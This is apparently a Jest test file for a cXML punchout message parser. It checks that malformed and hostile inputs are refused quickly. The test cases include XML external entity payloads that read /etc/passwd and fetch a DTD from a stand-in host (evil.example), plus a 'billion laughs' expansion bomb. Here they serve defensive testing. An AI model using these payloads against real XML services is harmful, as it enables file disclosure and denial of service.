import { describe, expect, it } from "@jest/globals";
import { parseCxml } from "./parse-cxml.js";
import { writeSetupRequest } from "./punchout-messages.js";

const now = new Date("2025-06-03T12:00:00Z");
const setup = writeSetupRequest(
  {
    from: "shop",
    to: "partner",
    sharedSecret: "secret",
    operation: "edit",
    buyerCookie: "h.s",
    returnUrl: "http://localhost/return",
    itemId: "CARD-1",
    qty: 2,
    proofId: "DS-1",
    extrinsics: { projectName: 'Tom & "Jerry" <b>\u0000\ud800' },
  },
  now,
);

const problemsOf = (text: string) => {
  const parsed = parseCxml(text);
  return parsed.ok ? [] : parsed.problems;
};

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY ${"bcdefghij"[level]} "${`&${"abcdefghi"[level]};`.repeat(10)}">`,
).join("")}]>`;

describe("cXML", () => {
  it("reads what it writes, whatever is in it", () => {
    expect(problemsOf(setup)).toEqual([]);
    expect(setup).toContain("Tom &amp; &quot;Jerry&quot; &lt;b&gt;<");
  });

  it.each([
    [
      "an entity of a file",
      setup
        .replace(/<!DOCTYPE[^>]*>/, '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
        .replace("h.s", "&x;"),
      /definitions/,
    ],
    [
      "an entity of a parameter",
      setup.replace(/<!DOCTYPE[^>]*>/, '<!DOCTYPE cXML [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'),
      /definitions/,
    ],
    ["a billion laughs", setup.replace(/<!DOCTYPE[^>]*>/, LAUGHS).replace("h.s", "&j;"), /definitions/],
    ["an entity that nobody defined", setup.replace("h.s", "&x;"), /well-formed/],
    ["nothing but the beginnings of document types", "<!DOCTYPE".repeat(28_000), /well-formed/],
    ["half a message", setup.slice(0, 400), /well-formed/],
    ["two roots", `${setup}<cXML/>`, /well-formed/],
    ["nothing", "", /well-formed/],
    ["another root", "<html/>", /root is cXML/],
    ["elements without end", `<cXML>${"<a>".repeat(3000)}`, /at most 2000/],
    ["a well of elements", `<cXML>${"<a>".repeat(100)}${"</a>".repeat(100)}</cXML>`, /deep/],
    ["a long message", `<cXML>${" ".repeat(300_000)}</cXML>`, /characters/],
    ["no cookie", setup.replace("<BuyerCookie>h.s</BuyerCookie>", ""), /lacks BuyerCookie/],
    ["an empty cookie", setup.replace(">h.s<", "> <"), /BuyerCookie is empty/],
    [
      "two cookies",
      setup.replace("<BuyerCookie>", "<BuyerCookie>x</BuyerCookie><BuyerCookie>"),
      /more than one BuyerCookie/,
    ],
    ["an unknown operation", setup.replace('"edit"', '"steal"'), /operation is one of/],
    ["no operation", setup.replace(' operation="edit"', ""), /lacks the attribute operation/],
    ["no payload id", setup.replace(/ payloadID="[^"]*"/, ""), /lacks the attribute payloadID/],
    ["a foreign element", setup.replace("<Sender>", "<Sender><Script/>"), /does not take Script/],
    ["no request", setup.replace(/<Request>.*<\/Request>/, ""), /lacks one of Request/],
  ])("refuses %s, saying what is wrong", (_title, text, problem) => {
    const started = performance.now();
    expect(problemsOf(text).join(" ")).toMatch(problem);
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
